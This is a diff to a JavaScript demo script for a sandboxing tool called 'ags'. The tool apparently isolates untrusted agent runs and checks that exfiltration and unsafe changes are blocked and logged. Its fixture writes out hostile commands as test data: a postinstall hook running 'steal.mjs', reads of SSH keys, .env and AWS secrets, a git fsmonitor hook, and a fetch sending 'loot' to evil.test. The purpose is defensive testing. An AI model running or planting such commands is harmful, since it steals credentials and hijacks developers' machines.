@@ -58,19 +58,24 @@ function story() {
     'no secret was seen inside',
   );
 
-  step('3. Three more at once, over the same repository: they do not see each other.');
+  step('3. It tried to send something to a host that no rule allows. That is written down, with the program that asked.');
+  const log = ags(['net', 'log', '--denied']);
+  check(run.stderr.includes('refused evil.test'), 'the host was refused');
+  check(log.stdout.includes('evil.test'), 'and the log says so');
+
+  step('4. Three more at once, over the same repository: they do not see each other.');
   parallel();
 
-  step('4. What changed? Files that can run code on your machine come first.');
+  step('5. What changed? Files that can run code on your machine come first.');
   ags(['review', 'discount'], { quiet: false });
 
-  step('5. Take the rest, but not those.');
+  step('6. Take the rest, but not those.');
   ags(['review', 'discount', '--accept-all']);
   check(readFileSync(join(project, 'src/price.mjs'), 'utf8').includes('0.9'), 'src/price.mjs was taken');
   check(!readFileSync(join(project, 'package.json'), 'utf8').includes('postinstall'), 'the install script was not');
   show('git', ['status', '--short']);
 
-  step('6. Throw away what is left.');
+  step('7. Throw away what is left.');
   ags(['review', 'discount', '--discard-all']);
   ags(['cleanup', '--all', '--yes']);
   ags(['list']);
@@ -100,7 +105,7 @@ function makeProject() {
       `sed -i 's/"scripts": {/"scripts": { "postinstall": "node steal.mjs",/' package.json`,
       'cat ~/.ssh/id_ed25519; cat .env; echo "key: $AWS_SECRET_ACCESS_KEY"',
       'touch /etc/owned /usr/bin/owned; git config core.fsmonitor "touch /tmp/owned"',
-      'node -e \'fetch("http://1.1.1.1").catch((e) => console.log("network:", e.cause.code))\'',
+      'node -e \'fetch("https://evil.test/?loot=1").catch((e) => console.log("network:", e.cause.code))\'',
       '',
     ].join('\n'),
   };
